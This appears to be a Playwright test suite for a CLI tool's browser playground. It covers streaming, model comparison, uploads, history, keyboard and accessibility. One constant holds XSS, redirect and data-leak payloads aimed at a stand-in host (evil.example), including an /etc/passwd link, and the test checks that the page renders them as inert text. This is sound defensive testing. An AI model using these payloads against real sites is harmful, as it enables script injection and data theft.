"""The page in a real browser: what a user does, sees, hears and must never get."""

from __future__ import annotations

import contextlib
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from apiyi_cli.playground.policy import PAGE_COMMANDS
from tests.conftest import KEY, Program
from tests.playground.client import Playground
from tests.test_readme import picture

api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
AXE = Path(__file__).parent / "vendor" / "axe.min.js"
WIDE = {"width": 1440, "height": 900}
PHONE = {"width": 390, "height": 844}
DONE_MS = 20_000
HOSTILE = """<script>window.hit=1</script><img src=x onerror="window.hit=2">
<iframe src="https://evil.example/"></iframe><svg onload="window.hit=3"></svg>
<form action="https://evil.example/"><button>Pay</button></form><style>*{display:none}</style>

![seen](https://evil.example/leak.png?k=secret) ![seen](//evil.example/y.png)
[click](javascript:window.hit=4) [file](file:///etc/passwd)
[data](data:text/html,<script>1</script>)
<a href="https://evil.example" onclick="window.hit=5" target=_self>link</a> [ok](https://fine.example/)

<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">
<input name=attributes autofocus onfocus="window.hit=6"><link rel=stylesheet href=https://evil.example/x.css>
<math><mtext><table><mglyph><style><img src=x onerror="window.hit=7">
<video src="https://evil.example/v" autoplay></video> <object data="https://evil.example/o"></object>
`</code><script>window.hit=8</script>` <div id="app" class="top" style="position:fixed">over</div>
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    # In a container there is no sandbox and little shared memory; it sees only our own page.
    arguments = ["--no-sandbox", "--disable-dev-shm-usage"]
    with api.sync_playwright() as started:
        running = started.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield running
        running.close()


class Tab:
    """One tab of the page, and all that its browser heard and asked for."""

    def __init__(self, browser: Any, url: str, size: dict[str, int], **how: Any) -> None:
        self.context = browser.new_context(viewport=size, **how)
        self.page = self.context.new_page()
        self.errors: list[str] = []
        self.asked: list[str] = []
        self.bodies: list[bytes] = []
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("console", self._hear)
        self.page.on("dialog", lambda dialog: self.errors.append(f"dialog: {dialog.message}"))
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("requestfinished", self._keep)
        self.page.goto(url)
        self.page.locator("#prompt").wait_for()

    def _hear(self, message: Any) -> None:
        # A refused status is a line in the console, too; what is refused is looked at elsewhere.
        if message.type == "error" and "Failed to load resource" not in message.text:
            self.errors.append(message.text)

    def _keep(self, request: Any) -> None:
        with contextlib.suppress(api.Error):
            self.bodies.append(request.response().body())

    def send(self, prompt: str = "", model: str = "") -> None:
        if prompt:
            self.page.fill("#prompt", prompt)
        if model:
            self.page.fill("#f-model", model)
        self.page.keyboard.press("Control+Enter")

    def done(self) -> str:
        """Wait for the end and return the words of the status line."""
        self.page.locator(".results > .status .exit").wait_for(timeout=DONE_MS)
        return str(self.page.inner_text(".results > .status"))

    def find_problems(self) -> list[str]:
        """Return what axe finds wrong with the page as it is."""
        self.page.evaluate(AXE.read_text("utf-8"))
        result = self.page.evaluate("() => axe.run(document, {resultTypes: ['violations']})")
        return [
            f"{found['id']}: {[node['html'][:120] for node in found['nodes'][:3]]}"
            for found in result["violations"]
        ]

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def tab(browser: Any, started: Program) -> Iterator[Tab]:
    server = Playground.started(started.start("playground --no-open"))
    opened = Tab(browser, server.url, WIDE, permissions=["clipboard-read", "clipboard-write"])
    yield opened
    opened.close()
    server.close()
    assert opened.errors == []
    # Nothing was asked of anybody but this server, and no byte of it is of a key.
    assert {url.split("/")[2] for url in opened.asked if "://" in url} == {server.host}
    assert not [body for body in opened.bodies if re.search(rb"\bsk-", body)]
    assert not [body for body in opened.bodies if KEY[3:].encode() in body]


def test_an_answer_is_sent_streamed_stopped_and_kept(tab: Tab) -> None:
    page = tab.page
    tab.send("# Title\n\n**bold** text\n\n```python\nprint(1)\n```")
    status = tab.done()
    assert "exit 0 ok" in status and "200" in status and "ms first" in status
    assert page.inner_text(".prose strong") == "bold"
    assert page.inner_text(".prose .code-frame code") == "print(1)\n"
    assert page.locator(".prose").get_attribute("aria-live") == "polite"
    line = page.inner_text(".line code")
    assert line.startswith("$ apiyi chat -- '# Title")
    page.keyboard.press("Control+Shift+C")
    assert page.evaluate("() => navigator.clipboard.readText()") == line.removeprefix("$ ")
    tab.send("wait", "fault:stall@6")
    page.locator(".prose p").wait_for()
    page.keyboard.press("Escape")
    page.locator(".outcome").wait_for()
    assert "Stopped" in page.inner_text(".outcome")
    page.locator(".entry", has_text="may be billed").wait_for()
    tab.send("nobody", "fault:429*9")
    tab.done()
    shown = page.inner_text(".outcome")
    assert "Exit 5: temporary" in shown and "Run it again? free" in shown and "try:" in shown
    assert page.locator(".entry").count() == 3
    page.click("[data-section=Sampling] summary")
    page.fill("#f-temperature", "0.2")
    tab.send("no", "gpt-5.4-mini")
    page.click(".outcome button:has-text('Clear --temperature')")
    assert page.input_value("#f-temperature") == ""


def test_several_models_stand_side_by_side(tab: Tab) -> None:
    page = tab.page
    page.fill("#prompt", "same words")
    page.fill("#f-model", "gpt-4o")
    for at, model in enumerate(("gpt-4.1", "gpt-5.4-mini")):
        page.click("text=+ compare")
        page.fill(f"#f-model-{at}", model)
    tab.send()
    page.locator(".difference").wait_for(timeout=DONE_MS)
    columns = page.locator(".column")
    assert columns.count() == 3
    for at, model in enumerate(("gpt-4o", "gpt-4.1", "gpt-5.4-mini")):
        text = columns.nth(at).inner_text()
        assert model in text and "You said: same words" in text and "ms first" in text
    assert "You said: same words" in page.inner_text(".difference")


def test_request_code_raw_and_log_show_the_same_line(tab: Tab) -> None:
    page = tab.page
    page.fill("#prompt", "hello")
    page.click("summary:has-text('Sampling')")
    page.fill("#f-temperature", "0.5")
    page.click("#tab-Request")
    page.click(".tree button.value.number:has-text('0.5')")
    page.fill(".edit", "0.7")
    page.keyboard.press("Enter")
    page.locator(".line code", has_text="--option=temperature=0.7").wait_for()
    page.locator(".tree button.value.number", has_text="0.7").wait_for(timeout=DONE_MS)
    assert "Bearer ***" in page.inner_text(".headers")
    page.click("#tab-Code")
    page.select_option("#language", "go")
    page.locator(".program", has_text="package main").wait_for(timeout=DONE_MS)
    tab.send()
    tab.done()
    assert "temperature=0.7" in page.inner_text(".prose")
    page.click("#tab-Raw")
    assert page.locator(".events li").count() > 4 and " ms" in page.inner_text(".events")
    assert "content-type" in page.inner_text(".headers")
    page.click("#tab-Log")
    assert "--ndjson --verbose" in page.inner_text(".log pre")
    page.fill("#f-temperature", "9")
    page.locator(".problem", has_text="9.0 is not between 0 and 2").wait_for(timeout=DONE_MS)


def test_files_go_up_and_pictures_sound_vectors_and_scores_come_back(
    tab: Tab, tmp_path: Path
) -> None:
    page = tab.page
    (tmp_path / "photo.png").write_bytes(picture())
    page.click("text=+ attach")
    page.locator("[data-option=attach] input[type=file]").set_input_files(tmp_path / "photo.png")
    page.locator(".chips", has_text="photo.png").wait_for()
    tab.send("What is it?")
    assert "exit 0" in tab.done()
    assert "--attach=photo.png" in page.inner_text(".line code")
    for command, prompt, place in (
        ("image", "a red kite", ".made img"),
        ("speak", "good morning", ".made audio"),
        ("embed", "one text", ".spark"),
    ):
        page.click(f".group button:text-is('{command}')")
        page.fill("#prompt", prompt)
        tab.send()
        page.locator(place).wait_for(timeout=DONE_MS)
        assert "exit 0" in tab.done()
    page.click(".group button:text-is('image')")
    tab.send("a boat")
    page.locator(".made img").wait_for(timeout=DONE_MS)
    tab.done()
    natural = "() => document.querySelector('.made img').naturalWidth"
    assert page.evaluate(natural) > 0
    page.click(".group button:text-is('rank')")
    page.fill("#prompt", "which pet barks")
    page.fill("#stdin", "cat\ndog")
    page.fill("#f-model", "bge-reranker-v2-m3")
    tab.send()
    page.locator(".scores li").nth(1).wait_for(timeout=DONE_MS)


def test_the_history_is_opened_run_again_and_deleted(tab: Tab) -> None:
    page = tab.page
    tab.send("remember me")
    tab.done()
    page.fill("#prompt", "")
    page.click(".entry")
    page.click("dialog button:text-is('Open')")
    assert page.input_value("#prompt") == "remember me"
    page.click(".entry")
    page.click("dialog button:has-text('Run again')")
    page.locator("dialog", has_text="Run it again?").wait_for()
    page.click("dialog button:text-is('Run again')")
    page.locator(".entry").nth(1).wait_for(timeout=DONE_MS)
    with page.expect_download() as download:
        page.locator(".entry").first.click()
        page.click("dialog button:text-is('Shell script')")
    text = Path(download.value.path()).read_text("utf-8")
    assert "apiyi chat -- 'remember me'" in text
    page.click("dialog button:text-is('Delete')")
    page.locator(".entry").nth(1).wait_for(state="detached")
    page.click(".history-head button")
    page.click("dialog button:text-is('Clear')")
    page.locator(".history", has_text="nothing yet").wait_for()


def test_a_hostile_answer_is_only_text(tab: Tab) -> None:
    page = tab.page
    tab.send(HOSTILE)
    assert "exit 0" in tab.done()
    page.wait_for_timeout(200)
    assert page.evaluate("() => window.hit") is None
    inside = "img, script, iframe, svg, form, style, base, meta, link, video, object, math, div#app"
    assert page.locator(f".prose :is({inside})").count() == 0
    assert page.locator("#app").count() == 1
    links = page.eval_on_selector_all(".prose a", "all => all.map(a => a.getAttribute('href'))")
    assert all(link is None or link.startswith("https://") for link in links)
    assert "https://fine.example/" in links
    names = "all => [...new Set(all.flatMap(node => node.getAttributeNames()))].sort()"
    attributes = page.eval_on_selector_all(".prose *", names)
    allowed = {"href", "target", "rel", "class", "type", "tabindex", "role", "aria-label"}
    assert set(attributes) <= allowed
    assert set(page.eval_on_selector_all(".prose a[target]", "all => all.map(a => a.rel)")) == {
        "noopener noreferrer"
    }
    assert "<script>window.hit=1</script>" in page.inner_text(".prose")
    assert page.url.rstrip("/").endswith(page.evaluate("() => location.host"))


def test_every_allowed_option_has_a_field(tab: Tab) -> None:
    page = tab.page
    commands = page.evaluate("() => fetch('/api/schema').then(r => r.json())")["commands"]
    assert len(commands) == len(PAGE_COMMANDS)
    for command in commands:
        page.click(f".group button:text-is('{command['name']}')")
        page.locator(".form-head h2", has_text=command["name"]).wait_for()
        for button in page.locator(".beside button").all():
            button.click()
        names = "all => all.map(node => node.dataset.option)"
        fields = set(page.eval_on_selector_all("[data-option]", names))
        allowed = {item["name"] for part in command["sections"] for item in part["options"]}
        assert fields == allowed, command["name"]


def test_everything_works_by_keyboard_alone(tab: Tab) -> None:
    page = tab.page
    page.keyboard.press("Control+k")
    page.keyboard.type("temperature")
    page.locator("dialog [role=option]", has_text="--temperature").wait_for()
    page.keyboard.press("Enter")
    page.locator("#f-temperature:focus, [aria-label='--temperature']:focus").wait_for()
    page.locator("#f-model").focus()
    page.keyboard.type("gpt-4.1-m")
    page.locator("#f-model-list [role=option]", has_text="gpt-4.1-mini").wait_for()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    assert page.input_value("#f-model") == "gpt-4.1-mini"
    page.keyboard.press("Control+k")
    page.keyboard.type("command respond")
    page.keyboard.press("Enter")
    page.locator(".form-head h2", has_text="respond").wait_for()
    for _ in range(60):
        if page.evaluate("() => document.activeElement.id") == "prompt":
            break
        page.keyboard.press("Tab")
    page.keyboard.type("typed by hand?")
    page.keyboard.press("Control+Enter")
    assert "exit 0" in tab.done()
    page.locator("#tab-Answer").focus()
    page.keyboard.press("ArrowRight")
    assert page.evaluate("() => document.activeElement.id") == "tab-Request"
    assert page.locator("#tab-Request").get_attribute("aria-selected") == "true"
    page.keyboard.press("?")
    page.locator("dialog", has_text="These keys").wait_for()
    page.keyboard.press("Escape")
    page.locator("dialog").wait_for(state="detached")
    outline = "() => getComputedStyle(document.activeElement).outlineStyle"
    page.keyboard.press("Tab")
    assert page.evaluate(outline) != "none"


def test_it_is_chinese_dark_narrow_and_without_a_fault_of_access(tab: Tab) -> None:
    page = tab.page
    tab.send("hello **there**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [ ] todo")
    tab.done()
    for summary in page.locator(".section > summary").all():
        summary.click()
    assert tab.find_problems() == []
    page.emulate_media(color_scheme="dark")
    assert tab.find_problems() == []
    page.click("button:text-is('中文')")
    page.locator("button:has-text('发送')").wait_for()
    assert page.evaluate("() => document.documentElement.lang") == "zh-CN"
    assert "采样" in page.inner_text(".form") and "历史" in page.inner_text(".sidebar")
    page.fill("#f-temperature", "9")
    page.locator(".problem", has_text="9.0 不在 0 到 2 之间").wait_for(timeout=DONE_MS)
    assert tab.find_problems() == []
    for name in ("Request", "Raw", "Code", "Log"):
        page.click(f"#tab-{name}")
        assert tab.find_problems() == []
    page.keyboard.press("Control+k")
    page.locator("dialog").wait_for()
    assert tab.find_problems() == []
    page.keyboard.press("Escape")
    wide = "() => document.documentElement.scrollWidth - innerWidth"
    for size in ({"width": 1024, "height": 768}, PHONE):
        page.set_viewport_size(size)
        assert page.evaluate(wide) <= 0
    assert tab.find_problems() == []
    page.click(".views button:nth-child(3)")
    assert page.locator(".results").is_visible() and not page.locator(".form").is_visible()


def test_without_a_key_it_says_where_keys_are_kept_and_has_no_field_for_one(
    browser: Any, started: Program
) -> None:
    env: dict[str, str | None] = {"APIYI_API_KEY": None, "APIYI_BASE_URL": None}
    server = Playground.started(started.start("playground --no-open", env=env))
    opened = Tab(browser, server.url, WIDE)
    page = opened.page
    page.locator(".top", has_text="no key: apiyi auth login").wait_for(timeout=DONE_MS)
    opened.send("hello")
    opened.done()
    shown = page.inner_text(".outcome")
    assert "Exit 4: auth" in shown and "apiyi auth login" in shown
    assert page.locator("input[type=password]").count() == 0
    labels = " ".join(page.locator("label").all_inner_texts()).lower()
    assert not re.search(r"\b(key|token|secret)\b", labels)
    page.select_option("#profile", "sandbox")
    page.locator(".top", has_text="offline sandbox").wait_for()
    opened.send("hello")
    page.locator(".prose", has_text="[sandbox] You said: hello").wait_for(timeout=DONE_MS)
    server.close()
    opened.send("again")
    page.locator(".lost", has_text="The playground has ended").wait_for()
    opened.close()
